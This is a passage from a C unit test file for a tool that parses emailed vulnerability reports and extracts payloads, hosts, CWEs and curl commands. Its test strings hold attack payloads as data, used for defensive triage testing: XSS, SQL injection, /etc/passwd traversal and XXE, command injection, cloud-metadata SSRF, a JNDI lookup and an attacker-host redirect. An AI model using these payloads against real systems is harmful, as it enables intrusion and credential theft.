	memcpy(z + pos + CDE, name, NAME);
	pos += CDE + NAME;
    }
    put32(z + pos, 0x06054b50);
    put16(z + pos + 8, N);
    put16(z + pos + 10, N);
    put32(z + pos + 12, pos - cd);
    put32(z + pos + 16, cd);
    pos += 22;
    assert_int_equal(pos, size);

    assert_true((fd = mkstemp(path)) >= 0);
    assert_non_null(fp = fdopen(fd, "w"));
    fputs("From: a@example.com\nSubject: wide\nMIME-Version: 1.0\n"
	  "Content-Type: application/zip; name=wide.zip\n"
	  "Content-Transfer-Encoding: base64\n\n", fp);
    b64_put(fp, z, size);
    fclose(fp);
    free(z);

    /* A lower bound: what fits, and at least the end record's claim. */
    report_limits_from_config(&lim, NULL);
    lim.max_zip_entries = 1000;
    alarm(HANG_SECONDS);
    assert_int_equal(report_parse_file(path, &lim, &r), 0);
    alarm(0);
    unlink(path);
    assert_int_equal(r.n_attachments, 1);
    a = r.attachments;
    assert_int_equal(a->size, size);
    assert_non_null(a->zip);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_int_equal(a->zip->entries, N);
    assert_int_equal(a->zip->n_members, REPORT_ZIP_LIST_MAX);
    assert_int_equal(a->zip->bomb, 1);
    assert_true(r.flags & REPORT_F_ZIP_BOMB);
    report_free(&r);
}

 /*
  * A sink that keeps attachments in memory, as the store would on disk.
  */
struct mem_sink {
    unsigned begun, ended, aborted;
    struct sbuf last;			/* bytes of the last one ended */
    char    last_sha[65];
};

struct mem_obj {
    struct mem_sink *ms;
    struct sbuf data;
};

static void *mem_begin(void *arg)
{
    struct mem_obj *o = calloc(1, sizeof(*o));

    o->ms = arg;
    o->ms->begun++;
    sbuf_init(&o->data, 64 * 1024 * 1024);
    return (o);
}

static int mem_write(void *obj, const void *p, size_t n)
{
    struct mem_obj *o = obj;

    return (sbuf_append(&o->data, p, n));
}

static char *mem_end(void *obj, const char *sha256_hex)
{
    struct mem_obj *o = obj;
    char    name[128];

    o->ms->ended++;
    sbuf_free(&o->ms->last);
    o->ms->last = o->data;
    snprintf(o->ms->last_sha, sizeof(o->ms->last_sha), "%s", sha256_hex);
    snprintf(name, sizeof(name), "mem/%s", sha256_hex);
    free(o);
    return (strdup(name));
}

static void mem_abort(void *obj)
{
    struct mem_obj *o = obj;

    o->ms->aborted++;
    sbuf_free(&o->data);
    free(o);
}

static void test_attach_sink(void **state)
{
    struct mem_sink ms;
    struct report_sink sink = {&ms, mem_begin, mem_write, mem_end, mem_abort};
    struct report_limits lim;
    struct report r;
    const struct report_attachment *a;
    char    want[128];

    /* Every attachment is kept, named by its digest. */
    memset(&ms, 0, sizeof(ms));
    sbuf_init(&ms.last, 1);
    report_limits_from_config(&lim, NULL);
    lim.sink = &sink;
    parse_with("att_capture.eml", &lim, &r);
    assert_int_equal(ms.begun, 3);
    assert_int_equal(ms.ended, 3);
    assert_int_equal(ms.aborted, 0);
    a = find_att(&r, "session.har");
    snprintf(want, sizeof(want), "mem/%s", a->sha256);
    assert_non_null(a->stored);
    assert_string_equal(a->stored, want);
    assert_string_equal(ms.last_sha, a->sha256);
    assert_int_equal(ms.last.len, a->size);
    assert_memory_equal(ms.last.data, "{\n  \"log\": {", 12);
    /* sha256sum of the HAR as written by the fixture generator */
    assert_string_equal(a->sha256,
	"6260f9b33cde43739ff91e229763c4a79bf56c6629e54b6a9f1520fea988b37e");
    report_free(&r);

    /* Past max_attachment_bytes: dropped, never kept cut. */
    lim.max_attachment_bytes = 50;
    parse_with("att_capture.eml", &lim, &r);
    assert_int_equal(ms.begun, 6);
    assert_int_equal(ms.ended, 5);
    assert_int_equal(ms.aborted, 1);
    assert_null(find_att(&r, "session.har")->stored);
    assert_non_null(find_att(&r, "traffic.pcap")->stored);
    report_free(&r);

    /* No sink: nothing kept. */
    parse("att_capture.eml", &r);
    assert_null(find_att(&r, "traffic.pcap")->stored);
    report_free(&r);
    sbuf_free(&ms.last);
}

static void test_attach_budget(void **state)
{
    struct report r;
    volatile unsigned long spin = 0;

    /*
     * A spent CPU budget stops the decode after the first chunk: no
     * listing of an archive whose end was not read.
     */
    report_budget_start(1);
    while (!report_budget_exceeded() && spin < 4000000000UL)
	spin++;
    parse("att_zip.eml", &r);
    report_budget_stop();
    assert_true(r.flags & REPORT_F_TIMEOUT);
    assert_true(r.budget_checks > 0);
    assert_null(find_att(&r, "poc.zip")->zip);
    report_free(&r);

    /* Without a budget, the same message is complete. */
    report_budget_start(0);
    parse("att_zip.eml", &r);
    report_budget_stop();
    assert_false(r.flags & REPORT_F_TIMEOUT);
    assert_non_null(find_att(&r, "poc.zip")->zip);
    report_free(&r);
}

/* ------------------------------------------- text side: bodies, charsets */

static void test_outlook_html_only(void **state)
{
    struct report r;

    /* Outlook: HTML only, base64; links keep their targets. */
    parse("outlook_html_only.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_string_equal(r.from_name, "Priya Raman");
    assert_true(has_text(&r, "logout endpoint of your portal "
			 "(https://portal.example.com/logout?next=https://attacker.example.net/phish)."));
    assert_true(has_text(&r, "1. Log in to the portal\n2. Open the link above"));
    assert_false(has_text(&r, "MsoNormal"));
    assert_false(has_text(&r, "shapedefaults"));
    assert_false(has_text(&r, "&nbsp;"));

    /* <pre> verbatim, counted as a code block; <code> kept. */
    assert_true(has_text(&r, "curl -sk -o /dev/null -w '%{redirect_url}' \\\n"
			 "  'https://portal.example.com/logout?next=//attacker.example.net'"));
    assert_true(has_text(&r, "Affected parameter: next=//attacker.example.net (CWE-601)."));
    assert_int_equal(r.code_blocks, 1);

    /* URLs of attributes whose text differs or that have no text. */
    assert_true(strlist_contains(&r.urls, "https://cdn.example-analytics.com/px.gif?id=42"));
    assert_true(strlist_contains(&r.urls, "https://reset.example.org/submit"));
    assert_true(strlist_contains(&r.urls, "https://reset.example.org/alt"));
    assert_true(strlist_contains(&r.urls, "https://legacy.example.com/sso/callback"));
    assert_true(strlist_contains(&r.urls, "https://img.example.com/a.png"));
    assert_true(strlist_contains(&r.urls, "https://img.example.com/a@2x.png"));
    assert_false(has_text(&r, "px.gif"));
    assert_true(strlist_contains(&r.hosts, "reset.example.org"));
    assert_true(strlist_contains(&r.cwes, "CWE-601"));
    assert_int_equal(r.curl_commands.n, 1);
    report_free(&r);
}

static void test_alternative_stub_plain(void **state)
{
    struct report r;

    /* "Your mail client does not support HTML": the HTML is the report. */
    parse("alternative_stub_plain.eml", &r);
    assert_true(has_text(&r, "this download link "
			 "(https://billing.example.com/invoices/10442/pdf) to another"));
    assert_true(has_text(&r, "STUBHTMLMARKER"));
    assert_false(has_text(&r, "does not"));
    assert_true(strlist_contains(&r.cwes, "CWE-639"));
    report_free(&r);
}

static void test_gmail_alternative(void **state)
{
    struct report r;

    /* A real plain part wins; the HTML twin adds nothing. */
    parse("gmail_alternative.eml", &r);
    assert_true(has_text(&r, "GMAILPLAIN"));
    assert_false(has_text(&r, "GMAILHTML"));
    assert_true(has_text(&r, "<svg/onload=alert(document.cookie)> is stored"));
    assert_true(strlist_contains(&r.payloads, "<svg/onload=alert(document.cookie)>"));
    assert_true(strlist_contains(&r.versions, "Chrome 120.0.6099.109"));
    assert_true(strlist_contains(&r.versions, "Firefox 121.0.1"));
    assert_int_equal(r.cvss_vectors.n, 1);
    report_free(&r);
}

static void test_mutt_plain_extraction(void **state)
{
    struct report r;

    parse("mutt_plain.eml", &r);
    assert_int_equal(r.flags, 0);

    /* HTTP blocks: the request URL from Host, counted with the response. */
    assert_true(strlist_contains(&r.urls,
		 "https://callhub.example.com/api/v2/search?filter=name'%20OR%201=1--"));
    assert_true(strlist_contains(&r.urls,
		 "https://files.callhub.example.com:8443/attachments/fetch"));
    assert_int_equal(r.http_requests, 2);
    assert_int_equal(r.http_responses, 1);

    /* Two indented blocks and one fence. */
    assert_int_equal(r.code_blocks, 3);

    /* curl, joined over its continuation lines, and its URL. */
    assert_int_equal(r.curl_commands.n, 1);
    assert_string_equal(r.curl_commands.v[0],
	    "curl -sk -X POST -H 'Content-Type: application/x-www-form-urlencoded' "
	    "--data 'path=../../../../etc/passwd' "
	    "'https://files.callhub.example.com:8443/attachments/fetch?debug=1'");
    assert_true(strlist_contains(&r.urls,
		 "https://files.callhub.example.com:8443/attachments/fetch?debug=1"));

    /* Hosts: lower case, no port, unique. */
    assert_int_equal(r.hosts.n, 2);
    assert_true(strlist_contains(&r.hosts, "files.callhub.example.com"));
    assert_true(strlist_contains(&r.hosts, "callhub.example.com"));

    /* Identifiers. */
    assert_int_equal(r.cwes.n, 2);
    assert_string_equal(r.cwes.v[0], "CWE-89");
    assert_string_equal(r.cwes.v[1], "CWE-22");
    assert_int_equal(r.ghsas.n, 1);
    assert_string_equal(r.ghsas.v[0], "GHSA-7rjr-3q55-vv33");
    assert_true(strlist_contains(&r.cves, "CVE-2023-49103"));

    /* Versions, and what is not one. */
    assert_true(strlist_contains(&r.versions, "CallHub 4.3"));
    assert_true(strlist_contains(&r.versions, "version 4.3.2"));
    assert_true(strlist_contains(&r.versions, "Android app 5.1.2"));
    assert_true(strlist_contains(&r.versions, "v2.4.0"));
    assert_int_equal(r.versions.n, 4);

    /* Payloads: SQL, traversal; one per line. */
    assert_true(strlist_contains(&r.payloads, "/api/v2/search?filter=name' OR 1=1-- HTTP/1.1"));
    assert_true(strlist_contains(&r.payloads, "UNION SELECT username,password FROM users--"));
    assert_true(strlist_contains(&r.payloads, "path=..%2f..%2f..%2fetc%2fpasswd"));
    assert_true(strlist_contains(&r.payloads, "'path=../../../../etc/passwd'"));
    assert_true(r.payloads.n <= 6);
    report_free(&r);
}

static void test_forward_attached(void **state)
{
    struct report r;

    /* A message/rfc822 with a one-line note: triaged as the inner report. */
    parse("forward_attached.eml", &r);
    assert_true(r.flags & REPORT_F_FORWARDED);
    assert_string_equal(r.from_addr, "bjorn@lindqvist-security.example");
    assert_string_equal(r.from_name, "Bj\xc3\xb6rn Lindqvist");
    assert_string_equal(r.subject, "RCE in image upload");
    assert_string_equal(r.forwarded_by.addr, "tom.becker@example.com");
    assert_string_equal(r.forwarded_by.name, "Tom Becker");

    /* Threading stays with the mail we received. */
    assert_string_equal(r.message_id, "<fwd-attached-7781@example.com>");
    assert_string_equal(r.in_reply_to, "<ack-7780@security.example.com>");
    assert_true(has_text(&r, "ATTACHEDFWDMARKER"));
    assert_true(strlist_contains(&r.payloads, "`id` returned uid=33."));
    report_free(&r);
}

static void test_forward_inline(void **state)
{
    struct report r;

    /* Gmail: "---------- Forwarded message ---------", quoted name. */
    parse("forward_inline_gmail.eml", &r);
    assert_true(r.flags & REPORT_F_FORWARDED);
    assert_string_equal(r.from_addr, "mai.nguyen@researcher.example");
    assert_string_equal(r.from_name, "Nguyen, Thi Mai");
    assert_string_equal(r.subject, "Security issue: account takeover via password reset");
    assert_string_equal(r.forwarded_by.addr, "tom.becker@example.com");
    assert_string_equal(r.message_id, "<CAF0wd1Xk2m8Lq9Zp3v+Yt6rN4s@mail.gmail.com>");
    assert_true(has_text(&r, "INLINEFWDMARKER"));
    report_free(&r);

    /* Outlook: "-----Original Message-----", "Name [mailto:addr]". */
    parse("forward_inline_outlook.eml", &r);
    assert_true(r.flags & REPORT_F_FORWARDED);
    assert_string_equal(r.from_addr, "ravi@bugbounty.example");
    assert_string_equal(r.from_name, "Ravi Shankar");
    assert_string_equal(r.subject, "Vulnerability in your VPN portal");
    assert_string_equal(r.forwarded_by.name, "Sandra Klein");
    assert_true(strlist_contains(&r.versions, "FortiOS 7.0.12"));
    report_free(&r);

    /* A researcher's own long mail is not a forward. */
    parse("mutt_plain.eml", &r);
    assert_false(r.flags & REPORT_F_FORWARDED);
    assert_null(r.forwarded_by.addr);
    report_free(&r);
}

static void test_charsets(void **state)
{
    struct report r;

    /* iso-8859-1, us-ascii and utf-8 labels on windows-1252 bytes. */
    parse("mislabelled_cp1252.eml", &r);
    assert_true(has_text(&r, "The \xe2\x80\x9cq\xe2\x80\x9d parameter of the search page is "
			 "reflected \xe2\x80\x93 unescaped \xe2\x80\xa6 se\xc3\xb1or."));
    assert_true(has_text(&r, "it\xe2\x80\x99s \xe2\x82\xac" "100 bounty\xe2\x84\xa2?"));
    assert_true(has_text(&r, "Espa\xc3\xb1" "a, \xe2\x80\x9c" "fine\xe2\x80\x9d."));
    report_free(&r);

    /* Shift_JIS body, ISO-2022-JP encoded words. */
    parse("shift_jis.eml", &r);
    assert_string_equal(r.from_name, "\xe5\xb1\xb1\xe7\x94\xb0\xe5\xa4\xaa\xe9\x83\x8e");
    assert_string_equal(r.subject, "\xe8\x84\x86\xe5\xbc\xb1\xe6\x80\xa7\xe5\xa0\xb1\xe5\x91\x8a");
    assert_true(has_text(&r, "\xe8\x84\x86\xe5\xbc\xb1\xe6\x80\xa7\xe3\x81\xae\xe5\xa0\xb1"
			 "\xe5\x91\x8a\xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82"));
    assert_true(strlist_contains(&r.urls, "https://shop.example.jp/login"));
    report_free(&r);

    /* An unknown charset is never fatal. */
    parse("bogus_charset.eml", &r);
    assert_int_equal(r.flags, 0);
    assert_true(has_text(&r, "Caf\xc3\xa9 r\xc3\xa9sum\xc3\xa9 BOGUSMARKER"));
    report_free(&r);

    /* Raw 8-bit header fields: UTF-8 and Latin-1. */
    parse("raw_8bit_headers.eml", &r);
    assert_string_equal(r.subject, "Inyecci\xc3\xb3n SQL en el m\xc3\xb3" "dulo de pagos");
    assert_string_equal(r.from_name, "Jos\xc3\xa9 Mart\xc3\xadnez");
    assert_string_equal(r.from_addr, "jose@example.mx");
    report_free(&r);
}

static void test_uuencode_inline(void **state)
{
    struct report r;

    /* An inline uuencoded PoC is an attachment, not text. */
    parse("uuencode_inline.eml", &r);
    assert_int_equal(r.n_attachments, 1);
    assert_string_equal(r.attachments[0].filename, "race_poc.sh");
    assert_string_equal(r.attachments[0].content_type, "application/octet-stream");
    assert_int_equal(r.attachments[0].size, 99);
    assert_string_equal(r.attachments[0].sha256,
	   "c81aabc39a8cece5a0c939345d0372c0d0782c5fa84d8a56441619f09fe0ec37");
    /* Sniffed like a MIME attachment: the #! line says what it is. */
    assert_non_null(r.attachments[0].sniffed_type);
    assert_string_equal(r.attachments[0].sniffed_type, "text/x-shellscript");
    assert_false(r.attachments[0].type_mismatch);
    assert_true(has_text(&r, "PoC below.\n\n[attachment: race_poc.sh]\n\nRun it"));
    assert_false(has_text(&r, "begin 644"));
    assert_false(has_text(&r, "M(R$O"));
    report_free(&r);
}

static void test_smime_and_inline_pgp(void **state)
{
    struct report r;

    /* S/MIME multipart/signed: read, signed, signature not text. */
    parse("smime_signed.eml", &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_false(r.flags & REPORT_F_ENCRYPTED);
    assert_true(has_text(&r, "SMIMESIGNEDMARKER"));
    assert_int_equal(r.n_attachments, 0);
    assert_true(strlist_contains(&r.cwes, "CWE-306"));
    report_free(&r);

    /*
     * application/pkcs7-mime; smime-type=signed-data: signed, not
     * encrypted, and the signed report is read.
     */
    parse("smime_opaque_signed.eml", &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_false(r.flags & REPORT_F_ENCRYPTED);
    assert_false(r.flags & REPORT_F_MALFORMED);
    assert_true(has_text(&r, "SMIMESIGNEDMARKER"));
    assert_true(strlist_contains(&r.cwes, "CWE-306"));
    assert_true(strlist_contains(&r.urls, "https://api.example.com/v1/admin/users"));
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);

    /* Inline PGP: flagged; the armour does not pose as words. */
    parse("pgp_inline_encrypted.eml", &r);
    assert_true(r.flags & REPORT_F_ENCRYPTED);
    assert_true(has_text(&r, "encrypted to your key from security.txt.\n\n"
			 "[PGP encrypted message: not readable]\n\nAna"));
    assert_false(has_text(&r, "hQIMA"));
    assert_int_equal(r.urls.n, 0);
    assert_int_equal(r.cves.n, 0);
    report_free(&r);
}

static void test_smime_opaque(void **state)
{
    struct report_limits lim;
    struct report r;

    /*
     * Opaque-signed multipart (openssl smime -sign -nodetach): its text
     * is the report's, its attachment an attachment, the signature no
     * attachment at all.
     */
    parse("smime_opaque_multipart.eml", &r);
    assert_int_equal(r.flags, REPORT_F_SIGNED);
    assert_string_equal(r.subject, "Predictable password reset token in Portal 3.8.2");
    assert_true(has_text(&r, "The password reset endpoint of portal.example.net"));
    assert_true(has_text(&r, "OPAQUESIGNEDMARKER"));
    assert_true(has_text(&r, "[attachment: reset_poc.py]"));
    assert_false(has_text(&r, "MIIKQgYJ"));
    assert_true(strlist_contains(&r.cwes, "CWE-640"));
    assert_true(strlist_contains(&r.versions, "Portal 3.8.2"));
    assert_true(strlist_contains(&r.urls,
				 "https://portal.example.net/api/v2/password/reset"));
    assert_int_equal(r.n_attachments, 1);
    assert_string_equal(r.attachments[0].filename, "reset_poc.py");
    assert_string_equal(r.attachments[0].content_type, "text/x-python");
    assert_int_equal(r.attachments[0].size, 164);
    assert_string_equal(r.attachments[0].sha256,
	   "b350cd1b3a5d6a1c38dc56276ede087450c840bdcdac70f2fc5e9ed01fbf97eb");
    report_free(&r);

    /* The signed content is one level down: max_mime_depth counts it. */
    report_limits_from_config(&lim, NULL);
    lim.max_mime_depth = 1;
    parse_with("smime_opaque_multipart.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_false(has_text(&r, "OPAQUESIGNEDMARKER"));
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);

    /* A DER past max_part_bytes is not unwrapped. */
    report_limits_from_config(&lim, NULL);
    lim.max_part_bytes = 1024;
    parse_with("smime_opaque_multipart.eml", &lim, &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    assert_false(has_text(&r, "OPAQUESIGNEDMARKER"));
    report_free(&r);

    /* A cut, corrupt signed-data blob: malformed, the rest still read. */
    parse("smime_corrupt.eml", &r);
    assert_true(r.flags & REPORT_F_SIGNED);
    assert_true(r.flags & REPORT_F_MALFORMED);
    assert_false(r.flags & REPORT_F_ENCRYPTED);
    assert_true(has_text(&r, "CORRUPTOUTERMARKER"));
    assert_int_equal(r.n_attachments, 0);
    report_free(&r);
}

static void test_from_variants(void **state)
{
    struct report r;

    parse("from_address_only.eml", &r);
    assert_string_equal(r.from_addr, "bugs@finder.example");
    assert_null(r.from_name);
    report_free(&r);

    parse("from_quoted_commas.eml", &r);
    assert_string_equal(r.from_addr, "jane.doe@research.example");
    assert_string_equal(r.from_name, "Doe, Jane (Security Research)");
    report_free(&r);

    parse("from_empty_group.eml", &r);
    assert_null(r.from_addr);
    assert_null(r.from_name);
    assert_string_equal(r.subject, "group From");
    assert_true(has_text(&r, "an empty group"));
    report_free(&r);

    /* RFC 2047 display name. */
    parse("encoded_words.eml", &r);
    assert_string_equal(r.from_name, "J\xc3\xbcrgen M\xc3\xbcller");
    report_free(&r);
}

static void test_extract_payloads(void **state)
{
    struct report r;

    memset(&r, 0, sizeof(r));
    sbuf_init(&r.text, 1 << 16);
    sbuf_puts(&r.text,
	      "name=\"><script>alert(1)</script>\n"
	      "<a href=\"javascript:alert(document.domain)\">x</a>\n"
	      "<img src=x onerror=alert(1)>\n"
	      "user=\" OR \"1\"=\"1\n"
	      "host=127.0.0.1;id\n"
	      "ping -c1 $(whoami).oast.example\n"
	      "greeting={{7*7}} renders 49\n"
	      "name=${7*7}\n"
	      "x=<%= 7*7 %>\n"
	      "GET /static/..%2f..%2fetc/passwd\n"
	      "file=%2e%2e/%2e%2e/etc/hosts\n"
	      "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
	      "url=gopher://127.0.0.1:6379/_INFO\n"
	      "url=http://metadata.google.internal/computeMetadata/v1/\n"
	      "X-Api-Version: ${jndi:ldap://oast.example/a}\n"
	      "This is prose about a version and an asleep( cat.\n");
    report_extract(&r);
    assert_true(strlist_contains(&r.payloads, "name=\"><script>alert(1)</script>"));
    assert_true(strlist_contains(&r.payloads, "href=\"javascript:alert(document.domain)\">x</a>"));
    assert_true(strlist_contains(&r.payloads, "<img src=x onerror=alert(1)>"));
    assert_true(strlist_contains(&r.payloads, "user=\" OR \"1\"=\"1"));
    assert_true(strlist_contains(&r.payloads, "host=127.0.0.1;id"));
    assert_true(strlist_contains(&r.payloads, "$(whoami).oast.example"));
    assert_true(strlist_contains(&r.payloads, "greeting={{7*7}}"));
    assert_true(strlist_contains(&r.payloads, "name=${7*7}"));
    assert_true(strlist_contains(&r.payloads, "x=<%= 7*7 %>"));
    assert_true(strlist_contains(&r.payloads, "/static/..%2f..%2fetc/passwd"));
    assert_true(strlist_contains(&r.payloads, "file=%2e%2e/%2e%2e/etc/hosts"));
    assert_true(strlist_contains(&r.payloads,
		 "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"));
    assert_true(strlist_contains(&r.payloads, "url=gopher://127.0.0.1:6379/_INFO"));
    assert_true(strlist_contains(&r.payloads,
		 "url=http://metadata.google.internal/computeMetadata/v1/"));
    assert_true(strlist_contains(&r.payloads, "${jndi:ldap://oast.example/a}"));
    assert_int_equal(r.payloads.n, 15);
    assert_true(strlist_contains(&r.hosts, "metadata.google.internal"));
    report_free(&r);

    /* Bounds: 50 entries of at most 200 bytes. */
    memset(&r, 0, sizeof(r));
    sbuf_init(&r.text, 1 << 20);
    for (int i = 0; i < 80; i++)
	sbuf_printf(&r.text, "p%d=<script>%0300d</script>\n", i, i);
    report_extract(&r);
    assert_int_equal(r.payloads.n, 50);
    for (size_t i = 0; i < r.payloads.n; i++)
	assert_true(strlen(r.payloads.v[i]) <= 200);
    assert_true(r.flags & REPORT_F_OVERSIZE);
    report_free(&r);
}

static void test_extract_hosts_curl(void **state)
{
    struct report r;

    memset(&r, 0, sizeof(r));
    sbuf_init(&r.text, 1 << 16);
    sbuf_puts(&r.text,
	      "See https://User:pw@WWW.Example.COM.:8080/a and http://[2001:db8::1]:8443/x\n"
	      "curl -H 'X-Forwarded-Host: evil.example' api.example.net/v2/ping\n"
	      "# curl --url https://b.example.org/q -d 'a=1'\n"
	      "POST /graphql HTTP/2\n"
	      "Host: gql.example.com:80\n"
	      "\n"
	      "HTTP/2 403\n");
    report_extract(&r);
    assert_true(strlist_contains(&r.hosts, "www.example.com"));
    assert_true(strlist_contains(&r.hosts, "[2001:db8::1]"));
    assert_true(strlist_contains(&r.urls, "http://api.example.net/v2/ping"));
    assert_false(strlist_contains(&r.hosts, "evil.example"));
    assert_true(strlist_contains(&r.urls, "https://b.example.org/q"));
    assert_true(strlist_contains(&r.urls, "http://gql.example.com/graphql"));
    assert_int_equal(r.curl_commands.n, 2);
    assert_int_equal(r.http_requests, 1);
    assert_int_equal(r.http_responses, 1);
    report_free(&r);
}

static void test_extract_performance(void **state)
{
    char    path[] = "/tmp/test_parser_perf_XXXXXX";
    struct timespec t0, t1;
    struct report r;
    FILE   *fp;
    int     fd;
    double  secs;

    /*
     * 100k lines of "a." (and 1 MB of text): linear, well under a
     * second; 5 s is only the hang guard.
     */
    memset(&r, 0, sizeof(r));
    sbuf_init(&r.text, 1 << 21);
    for (int i = 0; i < 100000; i++)
	sbuf_puts(&r.text, "a.\n");
    clock_gettime(CLOCK_MONOTONIC, &t0);
    report_extract(&r);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    secs = (double) (t1.tv_sec - t0.tv_sec) + (double) (t1.tv_nsec - t0.tv_nsec) / 1e9;
    assert_true(secs < 5.0);
    assert_int_equal(r.urls.n, 0);
    report_free(&r);

    /* A 1 MB message of report-like lines, parsed whole. */
    assert_true((fd = mkstemp(path)) >= 0);
    assert_non_null(fp = fdopen(fd, "w"));
    fputs("From: big@example.com\nSubject: big\nContent-Type: text/plain\n\n", fp);
    for (int i = 0; i < 16000; i++)
	fprintf(fp, "    GET /x?q=' OR 1=1-- HTTP/1.1 https://h%d.example.com/ v1.%d\n", i % 300, i);
    fclose(fp);
    clock_gettime(CLOCK_MONOTONIC, &t0);
    alarm(HANG_SECONDS);
    assert_int_equal(report_parse_file(path, NULL, &r), 0);
    alarm(0);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    unlink(path);
    secs = (double) (t1.tv_sec - t0.tv_sec) + (double) (t1.tv_nsec - t0.tv_nsec) / 1e9;
    assert_true(secs < 5.0);
    assert_true(r.text.len > 1000000);
    assert_int_equal(r.urls.n, 200);
    assert_true(r.versions.n <= 30);
    assert_true(r.hosts.n <= 200);
    report_free(&r);
}

int     main(void)
{
    const struct CMUnitTest tests[] = {
	cmocka_unit_test(test_report_xss),
	cmocka_unit_test(test_encoded_words),
	cmocka_unit_test(test_autoreply),
	cmocka_unit_test(test_forged_headers),
	cmocka_unit_test(test_html_outlook),
	cmocka_unit_test(test_alternative),
	cmocka_unit_test(test_latin1),
	cmocka_unit_test(test_chunk_boundaries),
	cmocka_unit_test(test_attachment_poc),
	cmocka_unit_test(test_forwarded),
	cmocka_unit_test(test_dsn),
	cmocka_unit_test(test_encrypted_signed),
	cmocka_unit_test(test_deep_nesting),
	cmocka_unit_test(test_missing_boundary),
	cmocka_unit_test(test_garbage_and_empty),
	cmocka_unit_test(test_boundary_loop),
	cmocka_unit_test(test_content_type_no_subtype),
	cmocka_unit_test(test_unreadable),
	cmocka_unit_test(test_limits),
	cmocka_unit_test(test_limits_from_config),
	cmocka_unit_test(test_pipe),
	cmocka_unit_test(test_report_free),
	cmocka_unit_test(test_defanged_urls),
	cmocka_unit_test(test_cve_cvss),
	cmocka_unit_test(test_extract_bounds),
	cmocka_unit_test(test_html_convert),
	cmocka_unit_test(test_attach_types),
	cmocka_unit_test(test_attach_capture),
	cmocka_unit_test(test_attach_zip),
	cmocka_unit_test(test_attach_zip_limits),
	cmocka_unit_test(test_attach_zipbomb),
	cmocka_unit_test(test_attach_zip_corrupt),
	cmocka_unit_test(test_attach_zip_wide),
	cmocka_unit_test(test_attach_sink),
	cmocka_unit_test(test_attach_budget),
	cmocka_unit_test(test_outlook_html_only),
	cmocka_unit_test(test_alternative_stub_plain),
	cmocka_unit_test(test_gmail_alternative),
	cmocka_unit_test(test_mutt_plain_extraction),
	cmocka_unit_test(test_forward_attached),
	cmocka_unit_test(test_forward_inline),
	cmocka_unit_test(test_charsets),
	cmocka_unit_test(test_uuencode_inline),
	cmocka_unit_test(test_smime_and_inline_pgp),
	cmocka_unit_test(test_smime_opaque),
	cmocka_unit_test(test_from_variants),
	cmocka_unit_test(test_extract_payloads),
	cmocka_unit_test(test_extract_hosts_curl),
	cmocka_unit_test(test_extract_performance),
    };

    return (cmocka_run_group_tests(tests, NULL, NULL));
}
